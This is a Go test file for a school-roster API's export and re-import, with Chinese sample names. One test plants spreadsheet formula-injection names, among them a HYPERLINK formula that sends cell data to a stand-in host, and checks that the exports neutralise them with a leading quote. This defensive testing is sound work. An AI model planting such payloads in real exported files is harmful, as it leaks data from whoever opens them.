package api_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"strings"
	"testing"

	"gorm.io/gorm"

	"qixue/domain"
	"qixue/identity"
	"qixue/models"
	"qixue/models/modelstest"
	"qixue/roster"
)

// seedLike creates a school as `qixue seed` does (through the identity
// service, no sourcedIds): a teacher, a grade-1 class taught by them and
// five students created by a teacher's bulk call.
func seedLike(t *testing.T, r *rosterHarness) identity.School {
	t.Helper()
	ctx := context.Background()
	root := domain.Principal{Role: domain.RolePlatformAdmin}
	school, err := r.Identity.CreateSchool(ctx, root, identity.SchoolInput{Name: "棋学示范小学"})
	if err != nil {
		t.Fatal(err)
	}
	teacher, err := r.Identity.CreateUser(ctx, root, identity.NewUser{SchoolID: school.ID, Role: domain.RoleTeacher,
		Username: "teacher", RealName: "林老师", Password: "correct-horse-battery"})
	if err != nil {
		t.Fatal(err)
	}
	class, err := r.Identity.CreateClass(ctx, root, identity.NewClass{SchoolID: school.ID, Name: "一年级(1)班", Grade: 1,
		TeacherIDs: []string{teacher.ID}})
	if err != nil {
		t.Fatal(err)
	}
	tp := domain.Principal{UserID: teacher.ID, SchoolID: school.ID, Role: domain.RoleTeacher}
	if _, _, err := r.Identity.CreateStudents(ctx, tp, class.ID, []string{"王小明", "李小红", "张伟", "刘洋", "陈静"}); err != nil {
		t.Fatal(err)
	}
	return school
}

// schoolState is every roster row of a school, as stored.
func schoolState(t *testing.T, db *gorm.DB, schoolID string) (identity.School, roster.State) {
	t.Helper()
	st := models.NewRosterStore(db)
	s, err := st.School(context.Background(), schoolID)
	if err != nil {
		t.Fatal(err)
	}
	state, err := st.State(context.Background(), []string{schoolID})
	if err != nil {
		t.Fatal(err)
	}
	return s, state
}

func (r *rosterHarness) export(t *testing.T, token, query string) []byte {
	t.Helper()
	rec := r.Do(t, http.MethodGet, "/v1/roster/export"+query, token, nil, nil)
	if rec.Code != http.StatusOK {
		t.Fatalf("export: %d %s", rec.Code, rec.Body.String())
	}
	return rec.Body.Bytes()
}

// unzipCSV returns the rows of one CSV file of an exported zip.
func unzipCSV(t *testing.T, data []byte, name string) [][]string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if f.Name != name {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(rc)
		rc.Close()
		rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return rows
	}
	t.Fatalf("%s not in the export", name)
	return nil
}

// roundTrip imports an export as a dry run and for real, and checks that
// neither changes anything and that the stored rows stay as they were.
func (r *rosterHarness) roundTrip(t *testing.T, db *gorm.DB, token, schoolID string, exported []byte) {
	t.Helper()
	school, before := schoolState(t, db, schoolID)
	for _, q := range []string{"?dry_run=true", ""} {
		id := r.submit(t, token, exported, q, http.StatusAccepted)
		job := r.finish(t, token, id)
		if job.Status != "succeeded" {
			t.Fatalf("re-import%s: %s %+v", q, job.Status, job.Errors)
		}
		for entity, c := range job.Summary {
			if c.Created+c.Updated+c.Deactivated != 0 {
				t.Errorf("re-import%s changed %s: %+v", q, entity, c)
			}
		}
		if job.Summary["users"].Unchanged != countActive(before) {
			t.Errorf("re-import%s: %d users unchanged, want %d", q, job.Summary["users"].Unchanged, countActive(before))
		}
	}
	school2, after := schoolState(t, db, schoolID)
	if school2 != school {
		t.Errorf("school changed: %+v -> %+v", school, school2)
	}
	if len(after.Users) != len(before.Users) || len(after.Classes) != len(before.Classes) || len(after.Enrollments) != len(before.Enrollments) {
		t.Fatalf("row counts changed: %d/%d/%d -> %d/%d/%d", len(before.Users), len(before.Classes), len(before.Enrollments),
			len(after.Users), len(after.Classes), len(after.Enrollments))
	}
	users := map[string]identity.User{}
	for _, u := range before.Users {
		users[u.ID] = u
	}
	for _, u := range after.Users {
		if b := users[u.ID]; b.SourcedID != u.SourcedID || b.RealName != u.RealName || b.Username != u.Username ||
			b.Role != u.Role || !b.UpdatedAt.Equal(u.UpdatedAt) || b.Active() != u.Active() {
			t.Errorf("user changed: %+v -> %+v", b, u)
		}
	}
	classes := map[string]identity.Class{}
	for _, c := range before.Classes {
		classes[c.ID] = c
	}
	for _, c := range after.Classes {
		if b := classes[c.ID]; b.SourcedID != c.SourcedID || b.Name != c.Name || b.LoginCode != c.LoginCode || !b.UpdatedAt.Equal(c.UpdatedAt) {
			t.Errorf("class changed: %+v -> %+v", b, c)
		}
	}
	enrolled := map[[2]string]identity.Enrollment{}
	for _, e := range before.Enrollments {
		enrolled[[2]string{e.ClassID, e.UserID}] = e
	}
	for _, e := range after.Enrollments {
		if b := enrolled[[2]string{e.ClassID, e.UserID}]; b.SourcedID != e.SourcedID || b.Active() != e.Active() {
			t.Errorf("enrollment changed: %+v -> %+v", b, e)
		}
	}
}

func countActive(st roster.State) int {
	n := 0
	for _, u := range st.Users {
		if u.Active() {
			n++
		}
	}
	return n
}

// TestRosterExportRoundTrip: an export of a school made in Qixue (the
// demo seed's shape, students created by a teacher, no sourcedIds)
// imports back with zero changes, as a dry run and for real, by the
// platform admin and by the school's admin, and again after an import.
func TestRosterExportRoundTrip(t *testing.T) {
	modelstest.Each(t, func(t *testing.T, db *gorm.DB) {
		r := newRosterHarness(t, db)
		seed := seedLike(t, r)
		exported := r.export(t, r.F.AdminToken, "?school_id="+seed.ID)
		r.roundTrip(t, db, r.F.AdminToken, seed.ID, exported)
		r.roundTrip(t, db, r.F.AdminToken, seed.ID, r.export(t, r.F.AdminToken, "?school_id="+seed.ID))

		// School A: an admin, teachers and students made by the fixture,
		// students added by a teacher, exported and imported by its admin.
		a := r.F.A
		rec := r.Do(t, http.MethodPost, "/v1/classes/"+a.Class.ID+"/students", a.TeacherToken,
			map[string]any{"students": []map[string]string{{"real_name": "赵六"}, {"real_name": "Ann Lee"}}}, nil)
		if rec.Code != http.StatusCreated {
			t.Fatalf("create students: %d %s", rec.Code, rec.Body.String())
		}
		r.roundTrip(t, db, a.AdminToken, a.School.ID, r.export(t, a.AdminToken, ""))
		r.roundTrip(t, db, r.F.AdminToken, a.School.ID, r.export(t, r.F.AdminToken, "?school_id="+a.School.ID))

		// A school linked to an org by a district import round-trips too.
		files := schoolFiles("org-x", "x")
		files["users.csv"] = strings.Replace(files["users.csv"], "x-teacher", "x.teacher", 1)
		id := r.submit(t, r.F.AdminToken, zipOf(t, files), "", http.StatusAccepted)
		if job := r.finish(t, r.F.AdminToken, id); job.Status != "succeeded" {
			t.Fatalf("district import: %+v", job)
		}
		var x struct{ ID string }
		db.Table("schools").Select("id").Where("sourced_id = ?", "org-x").Take(&x)
		r.roundTrip(t, db, r.F.AdminToken, x.ID, r.export(t, r.F.AdminToken, "?school_id="+x.ID))
	})
}

// TestRosterCSVCellsAreText: names that a spreadsheet would run as a
// formula are written with a leading quote in the login cards and the
// export, and the export still imports back to the same names.
func TestRosterCSVCellsAreText(t *testing.T) {
	modelstest.Each(t, func(t *testing.T, db *gorm.DB) {
		r := newRosterHarness(t, db)
		files := schoolFiles("org-f", "f")
		files["users.csv"] = strings.Replace(files["users.csv"], "f-teacher", "f.teacher", 1)
		files["users.csv"] = strings.Replace(files["users.csv"], ",明,李,", `,"=HYPERLINK(""http://x.example/?""&A1,""点我"")",,`, 1)
		files["users.csv"] = strings.Replace(files["users.csv"], ",红,王,", ",'+1,@SUM,", 1)
		files["classes.csv"] = strings.Replace(files["classes.csv"], "Chess 2B", "-2B", 1)
		id := r.submit(t, r.F.AdminToken, zipOf(t, files), "", http.StatusAccepted)
		if job := r.finish(t, r.F.AdminToken, id); job.Status != "succeeded" {
			t.Fatalf("import: %+v", job)
		}
		var names []string
		db.Table("users").Where("sourced_id IN ?", []string{"fu1", "fu2"}).Order("sourced_id").Pluck("real_name", &names)
		if len(names) != 2 || names[0] != `=HYPERLINK("http://x.example/?"&A1,"点我")` || names[1] != "+1 @SUM" {
			t.Fatalf("imported names %q", names)
		}
		var class struct{ ID, SchoolID string }
		db.Table("classes").Select("id, school_id").Where("sourced_id = ?", "fc1").Take(&class)

		rec := r.Do(t, http.MethodPost, "/v1/roster/classes/"+class.ID+"/login-cards", r.F.AdminToken, nil, nil)
		if rec.Code != http.StatusOK {
			t.Fatalf("login cards: %d %s", rec.Code, rec.Body.String())
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(rec.Body.String(), "\ufeff"))).ReadAll()
		if err != nil || len(rows) != 3 {
			t.Fatalf("cards csv %v %q", err, rec.Body.String())
		}
		got := map[string]bool{}
		for _, row := range rows[1:] {
			got[row[0]+"|"+row[1]] = true
		}
		for _, want := range []string{`'=HYPERLINK("http://x.example/?"&A1,"点我")|'-2B`, "'+1 @SUM|'-2B"} {
			if !got[want] {
				t.Errorf("login cards lack %q: %q", want, rows)
			}
		}

		exported := r.export(t, r.F.AdminToken, "?school_id="+class.SchoolID)
		users := unzipCSV(t, exported, "users.csv")
		cells := map[string]bool{}
		for _, row := range users[1:] {
			cells[row[8]] = true
		}
		if !cells[`'=HYPERLINK("http://x.example/?"&A1,"点我")`] || !cells["'+1 @SUM"] {
			t.Errorf("exported givenName cells %v", cells)
		}
		if classes := unzipCSV(t, exported, "classes.csv"); classes[1][3] != "'-2B" {
			t.Errorf("exported class title %q", classes[1][3])
		}
		r.roundTrip(t, db, r.F.AdminToken, class.SchoolID, exported)
	})
}
